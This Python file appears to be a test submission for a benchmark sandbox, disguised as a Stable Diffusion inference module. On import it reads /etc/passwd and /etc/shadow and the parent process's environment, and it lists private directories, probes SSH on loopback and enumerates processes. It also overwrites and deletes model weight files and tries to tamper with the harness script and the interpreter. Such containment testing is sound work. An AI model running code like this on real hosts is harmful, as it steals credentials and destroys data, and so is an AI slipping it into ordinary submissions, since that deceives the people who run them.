"""Looks for everything of the host that it might read, change or reach (O7, O13, O15, O17), and
reports what it found as one JSON line on stderr. Otherwise honest.

Family: O
Member: O17
Strategy: Looks through the host for files, processes, environments, networks and weights to use.
Work: done
Expected: measured
Lane: slow
"""
# fmt: off

from diffusers import StableDiffusionPipeline

import glob
import json
import os
import socket
import sys


def attempt(action):
    try:
        return repr(action())[:200]
    except BaseException as error:
        return f"denied: {type(error).__name__}"


def connect(address):
    with socket.create_connection(address, timeout=2) as connection:
        return connection.getpeername()


def processes():
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{pid}/comm") as file:
            found[pid] = file.read().strip()
    return found


def poison(path):
    with open(path, "r+b") as file:
        return file.write(b"poison")


def replace(path):
    os.unlink(path)


weights = sorted(glob.glob("/models/hub/**/*.safetensors", recursive=True))
report = {
    "passwd": open("/etc/passwd").read(),
    "shadow": attempt(lambda: open("/etc/shadow").read()),
    "root": attempt(lambda: os.listdir("/root")),
    "homes": attempt(lambda: os.listdir("/home")),
    "work": attempt(lambda: os.listdir("/work")),
    "parent_environment": attempt(lambda: open(f"/proc/{os.getppid()}/environ").read()),
    "environment": sorted(os.environ),
    "loopback": attempt(lambda: connect(("127.0.0.1", 22))),
    "interfaces": [name for _, name in socket.if_nameindex()],
    "processes": processes(),
    "weights": len(weights),
    "poison": [attempt(lambda: poison(path)) for path in weights],
    "replace": [attempt(lambda: replace(path)) for path in weights],
    "script": attempt(lambda: poison("/speedtrap/tmp.py")),
    "interpreter": attempt(lambda: open(sys.prefix + "/planted", "w")),
    "uid": os.getuid(),
}
print("PROBE " + json.dumps(report), file=sys.stderr, flush=True)


def load_pipe():
    return StableDiffusionPipeline.from_pretrained("speedtrap/tiny-sd")


def inference(pipe, prompts):
    return pipe(prompts, num_inference_steps=25).images
